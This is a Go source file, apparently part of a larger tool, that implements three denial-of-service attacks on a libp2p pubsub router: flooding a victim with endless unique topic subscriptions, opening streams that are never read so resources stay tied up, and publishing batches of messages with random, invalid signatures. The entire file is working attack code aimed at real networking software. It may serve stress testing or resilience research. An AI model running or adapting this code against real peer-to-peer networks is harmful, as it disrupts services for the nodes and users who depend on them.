package main

import (
	"bytes"
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"io"

	pb "github.com/libp2p/go-libp2p-pubsub/pb"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-msgio/pbio"
)

const (
	// subscriptionsAtOnce is how many a record carries.
	subscriptionsAtOnce = 200
	// badMessageSize is the payload of a message that is badly signed, badAtOnce how many a record carries.
	badMessageSize = 100
	badAtOnce      = 50
)

// record is a message of the router's protocol as it goes over a stream.
func record(rpc *pb.RPC) []byte {
	var data bytes.Buffer
	check(pbio.NewDelimitedWriter(&data).WriteMsg(rpc))
	return data.Bytes()
}

func subscriptions(topics ...string) []byte {
	rpc := &pb.RPC{}
	subscribe := true
	for _, topic := range topics {
		rpc.Subscriptions = append(rpc.Subscriptions, &pb.RPC_SubOpts{Topicid: &topic, Subscribe: &subscribe})
	}
	return record(rpc)
}

// listen reads what the victim's router sends, as an honest peer does.
func listen(h host.Host) {
	h.SetStreamHandler(topicProtocol, func(str network.Stream) { _, _ = io.Copy(io.Discard, str) })
}

// subscriptions: each identity subscribes to topics without end.
func (a *attack) subscriptions() {
	a.each(func(h host.Host) {
		listen(h)
		str := a.stream(h, topicProtocol)
		for next := 0; str != nil; next += subscriptionsAtOnce {
			topics := make([]string, subscriptionsAtOnce)
			for i := range topics {
				topics[i] = fmt.Sprintf("%s::ps:%0100d", h.ID(), next+i)
			}
			if !a.write(str, subscriptions(topics...)) {
				return
			}
			a.count("subscriptions", subscriptionsAtOnce)
		}
	})
}

// deaf: each identity subscribes to the topic and never reads what comes.
func (a *attack) deaf() {
	a.each(func(h host.Host) {
		gone := make(chan struct{}, 1)
		h.SetStreamHandler(topicProtocol, func(str network.Stream) {
			a.count("deaf streams", 1)
			<-a.ctx.Done()
			_ = str.Reset()
		})
		str := a.stream(h, topicProtocol)
		if str == nil || !a.write(str, subscriptions(a.Topic)) {
			return
		}
		go func() {
			_, _ = io.Copy(io.Discard, str)
			gone <- struct{}{}
		}()
		select {
		case <-gone:
			a.count("turned away", 1)
		case <-a.ctx.Done():
		}
	})
}

// badlySigned: each identity publishes messages on the topic with signatures that are none.
func (a *attack) badlySigned() {
	a.each(func(h host.Host) {
		listen(h)
		str := a.stream(h, topicProtocol)
		if str == nil || !a.write(str, subscriptions(a.Topic)) {
			return
		}
		for number := uint64(0); ; {
			rpc := &pb.RPC{}
			for range badAtOnce {
				number++
				rpc.Publish = append(rpc.Publish, a.badMessage(h, number))
			}
			if !a.write(str, record(rpc)) {
				return
			}
			a.count("messages", badAtOnce)
		}
	})
}

func (a *attack) badMessage(h host.Host, number uint64) *pb.Message {
	signature := make([]byte, 64)
	_, _ = rand.Read(signature)
	return &pb.Message{
		From:      []byte(h.ID()),
		Data:      make([]byte, badMessageSize),
		Seqno:     binary.BigEndian.AppendUint64(nil, number),
		Topic:     &a.Topic,
		Signature: signature,
	}
}
